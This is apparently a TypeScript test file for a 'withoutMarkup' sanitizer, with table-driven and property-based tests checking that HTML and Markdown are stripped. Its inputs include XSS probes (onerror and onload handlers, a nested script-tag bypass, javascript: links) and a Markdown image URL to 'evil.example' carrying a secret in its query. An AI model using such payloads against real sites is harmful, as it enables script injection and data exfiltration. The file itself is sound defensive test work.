import fc from 'fast-check';
import { withoutMarkup } from './without-markup.ts';

it.each([
  ['Tea <b>by hand</b><br/>', 'Tea by hand'],
  ['<img src=x onerror=alert(1)>Tea', 'Tea'],
  ['<svg/onload=alert(1)>Tea<!-- a --></svg >', 'Tea'],
  ['<scr<script>ipt>alert(1)</script>', 'alert(1)'],
  ['Tea <img src="x', 'Tea img src="x'],
  ['Less < more, 3<4 and a <3', 'Less < more, 3<4 and a <3'],
  ['![a pixel](https://evil.example/p.png?q=secret)Tea', 'Tea'],
  ['[Sign in](javascript:alert(1))', 'Sign in'],
  ['[![x](y)](z "t") Tea', ' Tea'],
  ['[a\\]b](x) [c]: /d', '[a\\]b] (x) [c] : /d'],
  ['See <https://evil.example> or https://evil.example/a', 'See  or evil.example/a'],
  ['javascript:alert(1)', 'alert(1)'],
  ['JavaScript: the good parts', 'JavaScript: the good parts'],
  ['From 10:30 to 11:00, 50/50 [laughs]', 'From 10:30 to 11:00, 50/50 [laughs]'],
])('makes of %j %j', (text, plain) => expect(withoutMarkup(text)).toBe(plain));

it('property: leaves no HTML or Markdown markup in any text', () => {
  const parts = [
    '<',
    '>',
    '/',
    '!',
    '[',
    ']',
    '(',
    ')',
    ':',
    '//',
    'b',
    'script',
    'javascript:',
    'https',
    ' ',
    '\n',
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...parts), { maxLength: 60 }), (some) => {
      expect(withoutMarkup(some.join(''))).not.toMatch(/<[a-z/!?]|\][(:]|:\/\/|\bjavascript:\S/iu);
    }),
    { numRuns: 2_000 },
  );
});

it('has no pathological inputs', () => {
  for (const part of ['<', '<a', '![', '[a](', 'a.', 'https://', ']('])
    expect(withoutMarkup(part.repeat(200_000)).length).toBeLessThanOrEqual(part.length * 400_000);
});
